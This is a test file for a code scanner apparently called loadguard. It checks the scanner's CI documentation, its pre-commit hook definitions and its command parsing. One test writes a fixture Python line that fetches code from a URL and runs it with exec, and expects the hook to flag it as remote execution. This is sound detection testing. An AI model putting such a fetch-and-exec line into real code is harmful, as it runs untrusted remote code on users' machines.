/** What users copy to hold their changes to the rules: it names this version, and every command in it is understood. */

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'yaml';
import { version } from '../package.json';
import { COMMANDS, readArguments } from '../server/cli/options.ts';

const ROOT = path.join(import.meta.dirname, '..');
const page = fs.readFileSync(path.join(ROOT, 'docs/ci.md'), 'utf8');
const hooks: readonly { readonly id: string; readonly entry: string }[] = parse(
  fs.readFileSync(path.join(ROOT, '.pre-commit-hooks.yaml'), 'utf8'),
);

/** Reads a command line as the program does, which throws for what it does not know. */
function understood(line: string): void {
  const [name, ...given] = line.split(/\s+/).map((it) => it.replaceAll('"', ''));
  const command = COMMANDS.find((it) => it.name === name);
  assert.ok(command, line);
  readArguments(command, given);
}

describe('what is copied into other projects', () => {
  it('names the version that it belongs to', () => {
    const named = [...page.matchAll(/loadguard@(\S+)/g)].map(([, it]) => it);
    assert.ok(named.length > 0);
    for (const it of named) assert.equal(it, version);
    assert.match(page, new RegExp(`rev: v${version.replaceAll('.', '\\.')}\n`));
  });

  it('has commands that are understood', () => {
    for (const [, line] of page.matchAll(/loadguard@\S+ ([^<\n]+?)(?: <.*)?$/gm)) understood(line!.trim());
    for (const { entry } of hooks) understood(entry.replace(/^scripts\/hook\.mjs /, ''));
  });

  it('has a hook that builds what it starts, in a clone that has nothing built', function () {
    this.timeout(120_000);
    const clone = fs.mkdtempSync(path.join(os.tmpdir(), 'loadguard-clone-'));
    try {
      for (const name of [
        'server',
        'client',
        'grammars',
        'scripts',
        'esbuild.mjs',
        'package.json',
        'package-lock.json',
      ]) {
        fs.cpSync(path.join(ROOT, name), path.join(clone, name), { recursive: true });
      }
      fs.symlinkSync(path.join(ROOT, 'node_modules'), path.join(clone, 'node_modules'), 'junction');
      const work = fs.mkdtempSync(path.join(clone, 'work-'));
      fs.writeFileSync(path.join(work, 'a.py'), 'import requests\nexec(requests.get("https://example.com").text)\n');
      fs.writeFileSync(path.join(work, 'b.py'), 'x = 1\n');
      const [program, ...given] = hooks[0]!.entry.split(' ');
      const run = (file: string) => {
        const options = { cwd: work, encoding: 'utf8' } as const;
        return spawnSync(process.execPath, [path.join(clone, program!), ...given, file], options);
      };
      const { status, stdout, stderr } = run('a.py');
      assert.equal(status, 1, stderr);
      assert.match(stdout, /remote-exec/);
      assert.equal(run('b.py').status, 0);
    } finally {
      fs.rmSync(clone, { recursive: true });
    }
  });

  it('is written as its readers expect it', () => {
    for (const [, block] of page.matchAll(/```yaml\n([\s\S]*?)```/g)) assert.ok(parse(block!));
    const used = [...page.matchAll(/- id: (\S+)/g)].map(([, it]) => it);
    assert.deepEqual(
      used,
      hooks.map((it) => it.id),
    );
  });

  it('pins the actions that it uses', () => {
    for (const [, reference] of page.matchAll(/uses: \S+@(\S+)/g)) assert.match(reference!, /^[0-9a-f]{40}$/);
  });
});
